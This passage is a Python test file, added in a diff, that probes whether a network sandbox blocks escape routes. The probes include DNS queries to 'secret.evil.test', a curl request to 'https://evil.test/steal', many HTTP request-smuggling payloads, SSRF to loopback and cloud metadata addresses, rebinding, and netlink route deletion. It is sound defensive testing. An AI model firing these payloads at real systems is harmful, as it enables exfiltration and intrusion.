@@ -1,0 +1,779 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Ways out that must not be there: peers.md 3.5 and 3.6, with allowed.test as the only allowed
+name unless a test says otherwise.
+
+Success of an attempt is measured outside: packets on the cable, questions at the DNS server,
+names in TLS hellos and requests, services of the host that were reached (servers.py). Each
+attempt is first run where it is not stopped (without a sandbox, or with a wider policy): it must
+be seen to work there, or the test proves nothing.
+"""
+import os
+import signal
+import subprocess
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from ambit_test import wait_until
+from servers import AAAA, DNS, HOST4, HOST6, TXT, dns_query
+
+PYTHON = "/usr/bin/python3"
+RAW = str(Path(__file__).parent / "probes/raw.py")
+GET = b"GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
+
+
+@pytest.fixture
+def raw(net, box):
+    """raw(...): the probe in the sandbox; raw.host(...): outside; both take data=bytes."""
+    probe = box.write("raw.py", Path(RAW).read_bytes())
+
+    def inside(*args, data=b"", options=(), **kw):
+        return box.run(PYTHON, str(probe), *map(str, args), input=data, options=options, **kw)
+
+    inside.host = lambda *args, data=b"", **kw: box.host(PYTHON, str(probe), *map(str, args),
+                                                         input=data, **kw)
+    return inside
+
+
+def stopped(net, inside, control, *, names=("allowed.test",), ports=None, leak=None):
+    """control() is seen outside, inside() is not; `leak` names what exactly. -> inside()'s result"""
+    net.forget()
+    c = control()
+    assert wait_until(lambda: net.leaks(names, ports, settle=0), 2), f"control: nothing seen\n{c}"
+    net.forget()
+    r = inside()
+    seen = net.leaks(names, ports)
+    assert not seen, "\n".join(map(str, [r, *seen]))
+    return r
+
+
+# --- N1: straight out ---------------------------------------------------------------
+
+STRAIGHT = {
+    "tcp": ("tcp", "11.9.9.9", 80),
+    "tcp6": ("tcp", "2a0b:99::9", 80),
+    "tls": ("tcp", "11.9.9.9", 443, "tls=allowed.test"),
+    "ssh": ("tcp", "11.9.9.9", 22, "wait=0.3"),
+    "mptcp": ("tcp", "11.9.9.9", 80, "mptcp"),
+    "fastopen": ("tcp", "11.9.9.9", 80, "fastopen"),
+    "mapped": ("tcp", "::ffff:11.9.9.9", 80),
+    "udp": ("udp", "11.9.9.9", 443),
+    "udp6": ("udp", "2a0b:99::9", 443),
+    "multicast": ("udp", "224.0.0.251", 5353),
+    "broadcast": ("udp", "255.255.255.255", 9),
+    "proxy-port-elsewhere": ("tcp", "11.9.9.9", 3128, "wait=0.3"),
+    "transparent-port-elsewhere": ("tcp", "11.9.9.9", 61080, "wait=0.3"),
+    "gateway": ("tcp", "11.0.0.2", 80),
+    "metadata": ("tcp", "169.254.169.254", 80),
+    "metadata6": ("tcp", "fd00:ec2::254", 80),
+    "private": ("tcp", "10.1.2.3", 80),
+}
+
+
+@pytest.mark.parametrize("way", STRAIGHT)
+def test_n1_straight(net, box, raw, way):
+    data = GET % (b"", b"allowed.test")  # the right name does not help at the wrong address
+    r = stopped(net, lambda: raw(*STRAIGHT[way], data=data),
+                lambda: raw.host(*STRAIGHT[way], data=data))
+    assert "hello" not in r.out, str(r)
+
+
+def test_n1_icmp_and_raw(net, box):
+    if box.who.name == "root":  # the control needs the right to raw sockets
+        script = "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); " \
+                 "s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('11.9.9.9', 0))"
+        stopped(net, lambda: box.run(PYTHON, "-c", script),
+                lambda: box.host(PYTHON, "-c", script))
+    script = """
+import socket
+for family, kind, protocol in ((2, 3, 1), (2, 3, 255), (10, 3, 58), (2, 2, 1), (10, 2, 58),
+                               (2, 1, 132), (2, 5, 132), (17, 3, 768), (2, 10, 0)):
+    try:
+        socket.socket(family, kind, protocol)
+        print("made", family, kind, protocol)
+    except OSError:
+        pass"""
+    assert box.run(PYTHON, "-c", script).ok().out == ""
+
+
+# --- N2: names as a channel ---------------------------------------------------------
+
+def as_tcp(query):
+    return len(query).to_bytes(2, "big") + query
+
+
+@pytest.mark.parametrize("name, kind", [("secret.evil.test", 1), ("secret.allowed.test", 1),
+                                        ("secret.evil.test", AAAA), ("secret.evil.test", TXT)])
+def test_n2_dns_queries(net, box, raw, name, kind):
+    query = dns_query(name, kind)
+    stopped(net, lambda: raw("udp", DNS, 53, data=query),
+            lambda: raw.host("udp", DNS, 53, data=query))
+    stopped(net, lambda: raw("tcp", DNS, 53, "wait=0.3", data=as_tcp(query)),
+            lambda: raw.host("tcp", DNS, 53, "wait=0.3", data=as_tcp(query)))
+
+
+def test_n2_nothing_is_asked_before_it_must(net, box, raw):
+    """Even the allowed name is looked up when it is dialled, not when a program asks for it; of
+    its other records nothing is asked at all."""
+    def lookups(run):
+        for kind in (1, AAAA, TXT, 65, 255):
+            run("udp", DNS, 53, data=dns_query("allowed.test", kind))
+        return run("tcp", DNS, 853, "wait=0.3", data=as_tcp(dns_query("allowed.test")))
+
+    stopped(net, lambda: lookups(raw), lambda: lookups(raw.host), names=())
+    assert not [e for e in net.events if e.kind in ("dns", "packet")], net.events
+    box.run("getent", "ahosts", "allowed.test").ok()
+    assert not net.leaks(names=()), net.events
+
+
+def test_n2_labels_below_a_wildcard(net, box):
+    """Data in labels of an allowed zone leaves when it is connected to, and not by asking."""
+    box.options = ["--allow-domain", "*.allowed.test"]
+    stopped(net, lambda: box.run("getent", "ahosts", "secret.allowed.test"),
+            lambda: box.host("getent", "ahosts", "secret.allowed.test"), names=())
+
+
+def test_n2_own_resolver_file(net, box):
+    """resolv.conf cannot be changed, and would not help."""
+    script = f"echo 'nameserver {DNS}' > /etc/resolv.conf; mount --bind /etc/hosts " \
+             f"/etc/resolv.conf; cat /etc/resolv.conf; RES_OPTIONS=use-vc getent hosts x.evil.test"
+    net.forget()
+    r = box.sh(script)
+    assert r.out.startswith("nameserver 127.0.0.1\n"), str(r)
+    assert not net.leaks(), str(r)
+
+
+def test_n2_names_given_to_the_proxy(net, box, raw):
+    """A name that is refused was not looked up, whichever protocol it came by."""
+    def ask(options=()):
+        raw("tcp", "127.0.0.1", 3128, "wait=0.5", options=options,
+            data=b"CONNECT secret.evil.test:443 HTTP/1.1\r\n\r\n")
+        raw("tcp", "127.0.0.1", 3128, options=options,
+            data=GET.replace(b"/%s", b"http://%s/") % (b"secret.evil.test", b"secret.evil.test"))
+        return raw("socks", "secret.evil.test", 80, "wait=0.5", options=options)
+
+    stopped(net, ask, lambda: ask(["--allow-domain", "*.evil.test"]))
+
+
+# --- N3: spellings ------------------------------------------------------------------
+
+SPELLINGS = [
+    b"evil.test\\0.allowed.test", b"allowed.test.evil.test", b"allowed.test@evil.test",
+    b"allowed.test:443@evil.test", b"evil.test#allowed.test", b"evil.test/allowed.test",
+    b"evil.test%00.allowed.test", b"evil.test%2eallowed.test", b"xallowed.test", b"sub.allowed.test",
+    b"allowed.test\\\\@evil.test", b"allowed.test%evil.test", b".allowed.test", b"allowed..test",
+    b"allowed.test..", b"evil.test\\r\\nHost: allowed.test", b"evil.test\\tallowed.test",
+    b"a" * 64 + b".allowed.test", b".".join([b"a" * 60] * 4) + b".allowed.test",
+    b"allowed.test,evil.test", b"*.test", b"*",
+]
+
+
+@pytest.mark.parametrize("spelling", range(len(SPELLINGS)))
+def test_n3_host_spellings(net, box, raw, spelling):
+    text = SPELLINGS[spelling].decode()
+    name = text.encode().decode("unicode_escape").encode("latin1")
+    net.names.update({n: ["11.6.6.6"] for n in (
+        "allowed.test.evil.test", "xallowed.test", "sub.allowed.test")})
+    requests = [b"CONNECT %s:80 HTTP/1.1\r\n\r\n" % name, b"GET http://%s/ HTTP/1.1\r\n\r\n" % name]
+    script = "".join(f"printf '%b' '{r.hex(' ').replace(' ', chr(92) + 'x')}' >&2;"
+                     for r in ()) or None
+    assert script is None
+    for request in requests:
+        r = raw("tcp", "127.0.0.1", 3128, "wait=0.3", data=request)
+        assert " 200 " not in r.out.split("\r\n")[0], str(r)
+    r = raw("socks", text, 80, "wait=0.3")
+    assert r.code != 0, str(r)
+    assert not net.leaks(), "\n".join(map(str, [r, *net.leaks()]))
+
+
+@pytest.mark.parametrize("name", ["allowed.test", "ALLOWED.TEST", "allowed.test.", "Allowed.Test."])
+def test_n3_same_name(net, box, raw, name):
+    """Control: what is the same name by the rules of DNS is let through."""
+    r = raw("tcp", "127.0.0.1", 3128, "wait=0.3",
+            data=f"CONNECT {name}:80 HTTP/1.1\r\n\r\n".encode())
+    assert " 200 " in r.out, str(r)
+    assert raw("socks", name, 7, "wait=0.3").ok().out.startswith("server speaks first")
+
+
+# --- N4: another name behind the allowed one ------------------------------------------
+
+def tls_by(way, name):
+    if way == "transparent":
+        return ["openssl", "s_client", "-connect", "allowed.test:443", *name]
+    return ["openssl", "s_client", "-proxy", "127.0.0.1:3128", "-connect", "allowed.test:443", *name]
+
+
+@pytest.mark.parametrize("way", ["transparent", "connect"])
+@pytest.mark.parametrize("name", ["evil.test", "sub.allowed.test", "allowed.test.evil.test", None])
+def test_n4_sni(net, box, way, name):
+    """The hello names another host, or none: no byte of it arrives."""
+    sni = ["-servername", name] if name else ["-noservername"]
+    r = stopped(net, lambda: box.run(*tls_by(way, sni)),
+                lambda: box.host("openssl", "s_client", "-connect", "allowed.test:443", *sni))
+    assert "BEGIN CERTIFICATE" not in r.out, str(r)
+    assert "ambit: denied connect to allowed.test:443" in r.err, str(r)
+    r = box.run(*tls_by(way, ["-servername", "allowed.test"]))  # and the right name is fine
+    assert "BEGIN CERTIFICATE" in r.out, str(r)
+
+
+def test_n4_curl_connect_to(net, box):
+    """srt 9.3 a: fronting by --connect-to."""
+    argv = ["curl", "-sSk", "--connect-to", "evil.test:443:allowed.test:443",
+            "https://evil.test/steal"]
+    stopped(net, lambda: box.run(*argv), lambda: box.host(*argv))
+
+
+def test_n4_plain_tls_port(net, box, raw):
+    """No TLS on a TLS port: the bytes do not go through."""
+    net.forget()
+    r = raw("tcp", "allowed.test", 443, "wait=6", data=b"GET / HTTP/1.0\r\n\r\n")
+    assert not [e for e in net.events if e.kind in ("tls", "http", "data")], net.events
+    assert "denied connect to allowed.test:443" in r.err, str(r)
+
+
+def test_n4_tls_on_other_port(net, box, raw):
+    """TLS for another name on a port that is not known for TLS."""
+    stopped(net, lambda: raw("tcp", "allowed.test", 7, "tls=evil.test", data=b"x",
+                             options=["-q"]),
+            lambda: raw.host("tcp", "allowed.test", 443, "tls=evil.test", data=b"x"))
+    assert not [e for e in net.events if e.kind == "data"], net.events
+
+
+@pytest.mark.parametrize("way", ["transparent", "absolute", "connect", "socks"])
+def test_n4_host_field(net, box, raw, way):
+    """Plain HTTP: the Host field asks the server behind the allowed name for another one."""
+    data = GET % (b"", b"evil.test")
+    inside = {
+        "transparent": lambda: raw("tcp", "allowed.test", 80, data=data),
+        "absolute": lambda: raw("tcp", "127.0.0.1", 3128, data=data.replace(
+            b"GET /", b"GET http://allowed.test/")),
+        "connect": lambda: raw("tcp", "127.0.0.1", 3128, data=(
+            b"CONNECT allowed.test:80 HTTP/1.1\r\n\r\n" + data)),
+        "socks": lambda: raw("socks", "allowed.test", 80, data=data),
+    }[way]
+    r = stopped(net, inside, lambda: raw.host("tcp", "allowed.test", 80, data=data))
+    assert "hello" not in r.out and "400" in r.out, str(r)
+
+
+# --- N5, N6, N7: where names lead -------------------------------------------------------
+
+TRAPS = ["127.0.0.1", "127.9.9.9", "::1", "::ffff:127.0.0.1", "0.0.0.0", "::", "10.1.2.3", "172.16.5.5",
+         "192.168.1.1", "100.64.0.1", "169.254.169.254", "169.254.170.2", "fd00:ec2::254",
+         "fd12::1", "100.100.100.200", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "2002:7f00:1::",
+         "::127.0.0.1", "fe80::1", HOST4, HOST6, "198.18.0.1"]
+
+
+def test_n5_names_that_lead_inside(net, box):
+    """An allowed name that resolves to anything but a public address of somebody else."""
+    names = {f"trap{i}.test": [a] for i, a in enumerate(TRAPS)}
+    fetch = " ".join(f"http://{n}/" for n in names)
+    box.options = ["--allow-domain", "*.test"]
+
+    def run(where):
+        net.names.update({k: list(v) for k, v in names.items()})
+        return where("curl", "-sS", "-m", "1", "-Z", "--parallel-immediate", *fetch.split())
+
+    net.forget()
+    run(box.host)
+    time.sleep(0.1)
+    seen = {e.what[1] for e in net.events if e.kind == "packet" and e.what[0] == "tcp"}
+    seen |= {e.what[0] for e in net.events if e.kind == "host"}
+    assert {"10.1.2.3", "169.254.169.254", "127.0.0.1", "::1", HOST4, "100.64.0.1",
+            "fd00:ec2::254"} <= seen, seen
+    for prefix in ([], ["env", "-u", "http_proxy", "-u", "HTTP_PROXY", "-u", "ALL_PROXY",
+                        "-u", "all_proxy"]):
+        net.forget()
+        r = run(lambda *argv: box.run(*prefix, *argv))
+        time.sleep(0.05)
+        out = [e for e in net.events if e.kind == "host" or
+               (e.kind == "packet" and e.what[2] != 53)]
+        assert not out, "\n".join(map(str, [r, *out]))
+        denied = {line.split()[4].split(":")[0] for line in r.err.splitlines()
+                  if line.startswith("ambit: denied connect to")}
+        assert denied == set(names), (set(names) - denied, str(r))
+
+
+def test_n5_literals(net, box):
+    """The same addresses as literals, under a rule that names everything."""
+    box.options = ["--allow-domain", "0.0.0.0/0", "--allow-domain", "::/0"]
+    urls = [f"http://[{a}]/" if ":" in a else f"http://{a}/" for a in TRAPS
+            if not a.startswith("fe80") and a not in (HOST4, HOST6)]
+    net.forget()
+    r = box.run("curl", "-gsS", "-m", "1", "-Z", "--noproxy", "", *urls)
+    r2 = box.run("curl", "-gsS", "-m", "1", "-Z", "--noproxy", "*",
+                 *[u for u in urls if "127." not in u and "[::" not in u and "//0" not in u])
+    time.sleep(0.05)
+    assert not [e for e in net.events if e.kind == "host" or e.kind == "packet"], \
+        "\n".join(map(str, [r, r2, *net.events]))
+    r = box.run("curl", "-sS", "--noproxy", "*", "http://11.1.1.1/").ok()  # control: not empty
+    assert "hello" in r.out
+
+
+def test_n5_own_public_address_by_literal(net, box):
+    """The machine's own public address is the machine itself, under a rule for all addresses."""
+    box.options = ["--allow-domain", "0.0.0.0/0"]
+    stopped(net, lambda: box.run("curl", "-sS", "-m", "2", f"http://{HOST4}/"),
+            lambda: box.host("curl", "-sS", f"http://{HOST4}/"))
+
+
+def test_n5_mixed_answers(net, box):
+    """One good address among bad ones: only that one is dialled."""
+    box.options = ["--allow-domain", "mixed.test"]
+    net.names["mixed.test"] = ["127.0.0.1", "10.1.2.3", "11.1.1.1", "::1"]
+    assert "hello" in box.run("curl", "-sSf", "http://mixed.test/").ok().out
+    assert not net.leaks(names=("mixed.test", "allowed.test")), net.leaks()
+
+
+def test_n6_rebinding(net, box):
+    """A name that was public a moment ago and is the host's loopback now."""
+    box.options = ["--allow-domain", "rebind.test"]
+    script = "for i in 1 2 3; do curl -sS http://rebind.test/$i; " \
+             "curl -sS --noproxy '*' http://rebind.test/$i; done"
+    net.names["rebind.test"] = [["11.1.1.1"], ["127.0.0.1"]]
+    r = box.sh(script)
+    assert "hello from rebind.test" in r.out and "secret" not in r.out, str(r)
+    assert "loopback address (127.0.0.1)" in r.err, str(r)
+    assert not net.leaks(names=("rebind.test", "allowed.test")), net.leaks()
+    net.names["rebind.test"] = [["11.1.1.1"], ["127.0.0.1"]]
+    assert "secret" in box.host("sh", "-c", script).out  # control
+
+
+@pytest.mark.parametrize("name", ["169.254.169.254", "169.254.170.2", "100.100.100.200",
+                                  "fd00:ec2::254"])
+def test_n7_metadata(net, box, name):
+    """Never, whatever the private addresses are allowed to do."""
+    net.names["meta.test"] = [name]
+    box.options = ["--allow-domain", "meta.test", "--set", "network.allowPrivateAddresses=true",
+                   "--allow-domain", "169.254.0.0/16", "--allow-domain", "100.64.0.0/10",
+                   "--allow-domain", "fd00::/8"]
+    url = f"http://[{name}]/" if ":" in name else f"http://{name}/"
+
+    def run(where):
+        net.names["meta.test"] = [name]
+        return where("curl", "-gsS", "-m", "2", "--noproxy", "*", url, "http://meta.test/")
+
+    r = stopped(net, lambda: run(box.run), lambda: run(box.host), names=("meta.test",))
+    assert "hello" not in r.out, str(r)
+    net.names["meta.test"] = [name]
+    r = box.run("curl", "-gsS", "-m", "2", url, "http://meta.test/")
+    assert "hello" not in r.out and not net.leaks(names=("meta.test",)), str(r)
+
+
+def test_n7_private_by_name_when_allowed(net, box):
+    """Control to the ones above: what the setting is for works."""
+    net.names["lan.test"] = ["10.1.2.3"]
+    box.options = ["--allow-domain", "lan.test", "--set", "network.allowPrivateAddresses=true"]
+    assert "hello" in box.run("curl", "-sSf", "http://lan.test/").ok().out
+
+
+# --- N8, N9, N10: ports, redirects, requests in disguise ----------------------------------
+
+@pytest.mark.parametrize("port", [22, 25, 80, 8443])
+def test_n8_other_port(net, box, raw, port):
+    box.options = ["--allow-domain", "allowed.test:443"]
+    data = b"CONNECT allowed.test:%d HTTP/1.1\r\n\r\n" % port
+    wider = ["--allow-domain", "allowed.test"]
+    r = stopped(net, lambda: raw("tcp", "127.0.0.1", 3128, "wait=0.3", data=data),
+                lambda: raw("tcp", "127.0.0.1", 3128, "wait=0.3", data=data, options=wider),
+                ports=(443,))
+    if port != 80:  # judged when it is used, and then as the request for a page
+        assert "403" in r.out or port == 80, str(r)
+    for way in ("tcp", "socks"):
+        r = stopped(net, lambda: raw(way, "allowed.test", port, "wait=0.3", data=b"x\r\n\r\n"),
+                    lambda: raw.host("tcp", "allowed.test", port, "wait=0.3", data=b"x\r\n\r\n"),
+                    ports=(443,))
+        assert "denied connect to allowed.test" in r.err, str(r)
+
+
+def test_n9_redirect(net, box, direct):
+    for prefix in ([], direct):
+        argv = [*prefix, "curl", "-sSL", "-m", "5", "http://allowed.test/to?http://evil.test/got"]
+        r = stopped(net, lambda: box.run(*argv), lambda: box.host(*argv))
+        assert "hello" not in r.out and "denied connect to evil.test" in r.err, str(r)
+    r = box.run("curl", "-sSL", "http://allowed.test/to?http://127.0.0.1:5432/", "--noproxy", "")
+    assert "secret" not in r.out and not net.leaks(), str(r)
+
+
+ALLOWED = b"Host: allowed.test\r\n"
+SMUGGLED = b"GET http://evil.test/smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+ORIGIN = b"GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+SMUGGLING = {
+    "pipelined": b"GET http://allowed.test/ HTTP/1.1\r\n" + ALLOWED + b"\r\n" + SMUGGLED,
+    "pipelined-origin": b"GET http://allowed.test/ HTTP/1.1\r\n" + ALLOWED + b"\r\n" + ORIGIN,
+    "te-and-cl": b"POST http://allowed.test/ HTTP/1.1\r\n" + ALLOWED + b"Content-Length: 5\r\n"
+                 b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + ORIGIN,
+    "cl-and-te": b"POST http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+                 b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n0\r\n\r\n"
+                 % (5 + len(ORIGIN)) + ORIGIN,
+    "te-twice": b"POST http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+                b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" +
+                ORIGIN,
+    "te-space": b"POST http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+                b"Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + ORIGIN,
+    "te-folded": b"POST http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+                 b"Transfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + ORIGIN,
+    "cl-twice": b"POST http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+                b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(ORIGIN) + ORIGIN,
+    "cl-sign": b"POST http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+               b"Content-Length: +%d\r\n\r\n" % len(ORIGIN) + ORIGIN,
+    "cl-zero-body": b"POST http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+                    b"Content-Length: 0\r\n\r\n" + ORIGIN,
+    "two-hosts": b"GET http://allowed.test/smuggled HTTP/1.1\r\n" + ALLOWED +
+                 b"Host: evil.test\r\n\r\n",
+    "two-hosts-origin": b"CONNECT allowed.test:80 HTTP/1.1\r\n\r\nGET /smuggled HTTP/1.1\r\n" +
+                        ALLOWED + b"Host: evil.test\r\n\r\n",
+    "host-in-line": b"GET http://allowed.test/ HTTP/1.1\r\nX: y\nHost: evil.test\r\n\r\n",
+    "bare-lf": b"GET http://allowed.test/ HTTP/1.1\n" + ALLOWED + b"\n" + ORIGIN,
+    "bare-cr": b"GET http://allowed.test/ HTTP/1.1\r\nX: a\rHost: evil.test\r\n\r\n",
+    "nul": b"GET http://allowed.test/ HTTP/1.1\r\nX: a\0\r\nHost: evil.test\r\n\r\n",
+    "chunk-extension": b"POST http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+                       b"Transfer-Encoding: chunked\r\n\r\n0;x\n\r\n\r\n" + ORIGIN,
+    "chunk-size": b"POST http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+                  b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + ORIGIN,
+    "chunk-overflow": b"POST http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+                      b"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\n" + ORIGIN,
+    "upgrade": b"GET http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+               b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+               b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n" + ORIGIN,
+    "h2c": b"GET http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+           b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAAA\r\n\r\n" +
+           ORIGIN,
+    "h2-preface": b"CONNECT allowed.test:80 HTTP/1.1\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+    "get-body": b"GET http://allowed.test/ HTTP/1.1\r\n" + ALLOWED +
+                b"Content-Length: 3\r\n\r\nabc" + ORIGIN,
+    "http-1.0": b"POST http://allowed.test/ HTTP/1.0\r\n" + ALLOWED +
+                b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + ORIGIN,
+    "http-0.9": b"GET /smuggled\r\n\r\n" + ORIGIN,
+    "connect-body": b"CONNECT allowed.test:80 HTTP/1.1\r\nContent-Length: %d\r\n\r\n"
+                    % len(ORIGIN) + ORIGIN,
+    "connect-in-tunnel": b"CONNECT allowed.test:80 HTTP/1.1\r\n\r\nCONNECT evil.test:80 HTTP/1.1"
+                         b"\r\n\r\n" + ORIGIN,
+    "absolute-in-tunnel": b"CONNECT allowed.test:80 HTTP/1.1\r\n\r\n" + SMUGGLED,
+    "second-in-tunnel": b"CONNECT allowed.test:80 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\n" + ALLOWED +
+                        b"\r\n" + ORIGIN,
+    "userinfo": b"GET http://allowed.test:80@evil.test/smuggled HTTP/1.1\r\n\r\n",
+    "https-scheme": b"GET https://evil.test/smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
+    "forwarded-host": b"GET //evil.test/smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
+}
+
+
+@pytest.mark.parametrize("how", SMUGGLING)
+def test_n10_smuggling(net, box, raw, how):
+    r = raw("tcp", "127.0.0.1", 3128, "wait=0.4", data=SMUGGLING[how])
+    leaks = net.leaks()
+    assert not leaks, "\n".join(map(str, [r, *leaks]))
+
+
+@pytest.mark.parametrize("how", ["second", "te-and-cl", "two-hosts"])
+def test_n10_smuggling_transparent(net, box, raw, how):
+    data = {"second": b"GET / HTTP/1.1\r\n" + ALLOWED + b"\r\n" + ORIGIN,
+            "te-and-cl": SMUGGLING["te-and-cl"].replace(b"http://allowed.test/", b"/"),
+            "two-hosts": b"GET /smuggled HTTP/1.1\r\n" + ALLOWED + b"Host: evil.test\r\n\r\n"}[how]
+    stopped(net, lambda: raw("tcp", "allowed.test", 80, "wait=0.4", data=data),
+            lambda: raw.host("tcp", "allowed.test", 80, "wait=0.4", data=data))
+
+
+def test_n10_control(net, box, raw):
+    """Two proper requests on one connection to the proxy both arrive."""
+    one = b"GET http://allowed.test/%d HTTP/1.1\r\n" + ALLOWED + b"\r\n"
+    r = raw("tcp", "127.0.0.1", 3128, "wait=0.5", data=one % 1 + one % 2)
+    assert "hello from allowed.test/1" in r.out and "hello from allowed.test/2" in r.out, str(r)
+
+
+# --- I8, I9: the host's own services --------------------------------------------------------
+
+LOCAL = ["127.0.0.1", "localhost", "0.0.0.0", "0", "127.1", "2130706433", "0x7f000001",
+         "017700000001", "0177.0.0.1", "127.0.0.1.", "[::1]", "[::]", "[::ffff:127.0.0.1]",
+         "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "host.docker.internal", "10.0.2.2",
+         HOST4, f"[{HOST6}]", "[fe80::1%25lo]", "%31%32%37.0.0.1", "①②⑦.0.0.1"]
+
+
+@pytest.mark.parametrize("rule", ["allowed.test", "*.test", "0.0.0.0/0,::/0"])
+def test_i9_proxy_as_hop(net, box, raw, rule):
+    """CONNECT and absolute requests to the host's loopback, in every spelling of it."""
+    box.options = ["--allow-domain", rule]
+    script = ""
+    for name in LOCAL:
+        script += f"curl -gsS -m 2 -p -x http://127.0.0.1:3128 --noproxy '' 'http://{name}:5432/'\n"
+        script += f"curl -gsS -m 2 -x http://127.0.0.1:3128 --noproxy '' 'http://{name}:5432/'\n"
+    net.forget()
+    r = box.sh(script + "true")
+    leaks = [e for e in net.leaks() if e.kind == "host" or e.kind == "packet"]
+    assert not leaks and "secret" not in r.out, "\n".join(map(str, [r, *leaks]))
+    data = b"".join(b"CONNECT %s:5432 HTTP/1.1\r\n\r\n" % n.encode() for n in LOCAL[:1])
+    r = raw("tcp", "127.0.0.1", 3128, data=data)
+    assert r.out.startswith("HTTP/1.1 403"), str(r)
+    r = raw("socks", "127.0.0.1", 5432)
+    assert r.code != 0 and not [e for e in net.events if e.kind == "host"], str(r)
+
+
+def test_i9_control(net, box):
+    """The same hop works where it is allowed: an address rule for the very port."""
+    box.options = ["--allow-domain", "127.0.0.1:5432"]
+    r = box.run("curl", "-sSf", "--noproxy", "", "http://127.0.0.1:5432/").ok()
+    assert r.out == "secret\n", str(r)
+
+
+def test_i8_loopback(net, box, raw):
+    """The host's services on loopback and on its address, without any proxy."""
+    for host, port in (("127.0.0.1", 5432), ("127.0.0.1", 6379), ("::1", 9222), ("0.0.0.0", 22),
+                       ("127.9.8.7", 5432), (HOST4, 5432), (HOST6, 6379),
+                       ("::ffff:127.0.0.1", 5432)):
+        r = stopped(net, lambda: raw("tcp", host, port, data=b"x"),
+                    lambda: raw.host("tcp", host, port, data=b"x"))
+        assert "secret" not in r.out, str(r)
+
+
+def test_i2_abstract_socket(net, box):
+    script = "import socket; s = socket.socket(socket.AF_UNIX); " \
+             "s.connect('\\0ambit-test-abstract'); print('in')"
+    r = stopped(net, lambda: box.run(PYTHON, "-c", script), lambda: box.host(PYTHON, "-c", script))
+    assert "in" not in r.out.split(), str(r)
+
+
+@pytest.mark.parametrize("where", ["tmp", "home", "ws"])
+def test_i1_i3_unix_sockets(net, box, where):
+    """A socket of the host, connected to or sent to without connecting (I3)."""
+    import socket
+    directory = {"tmp": Path("/tmp"), "home": box.home, "ws": box.ws}[where]
+    path = directory / f"s{os.getpid()}{box.who.name}"
+    dgram = Path(f"{path}d")
+    script = f"""
+import socket
+for attempt in (lambda: socket.socket(socket.AF_UNIX).connect("{path}"),
+                lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]
+                        .sendto(b"pair", "{dgram}"),
+                lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+                        .sendto(b"sent", "{dgram}")):
+    try:
+        attempt()
+        print("through")
+    except OSError as e:
+        print("refused")"""
+    with socket.socket(socket.AF_UNIX) as s, socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as d:
+        try:
+            s.bind(str(path))
+            d.bind(str(dgram))
+            path.chmod(0o777)
+            dgram.chmod(0o777)
+            s.listen()
+            s.setblocking(False)
+            d.setblocking(False)
+            assert box.host(PYTHON, "-c", script).out == "through\n" * 3
+            s.accept()
+            d.recv(100), d.recv(100)
+            assert box.run(PYTHON, "-c", script).ok().out == "refused\n" * 3
+            for reached in (s.accept, lambda: d.recv(100)):
+                with pytest.raises(BlockingIOError):
+                    reached()
+        finally:
+            path.unlink(missing_ok=True)
+            dgram.unlink(missing_ok=True)
+
+
+def test_i6_the_namespace_cannot_be_changed(net, box):
+    """No route, no interface, no rule: the wall is not the command's to move."""
+    script = """
+import ctypes, socket, struct
+def netlink(protocol, kind, body, flags=0x605):
+    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
+    s.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
+    length, answer, _, _, _, error = struct.unpack_from("=IHHIIi", s.recv(4096))
+    if answer != 2 or error == 0:
+        print("done", protocol, kind)
+for what in (lambda: netlink(0, 25, struct.pack("=8BI", 2, 0, 0, 0, 255, 4, 0, 2, 0)),  # delete route
+             lambda: netlink(0, 24, struct.pack("=8BI", 2, 8, 0, 0, 254, 4, 0, 1, 0)),
+             lambda: netlink(0, 17, struct.pack("=BxHiII", 0, 0, 1, 0, 0)),             # delete lo
+             lambda: netlink(0, 16, struct.pack("=BxHiII", 0, 0, 1, 0, 1)),             # lo down
+             lambda: netlink(12, 0xa02, struct.pack("=BBH", 0, 0, 0)),                  # nftables
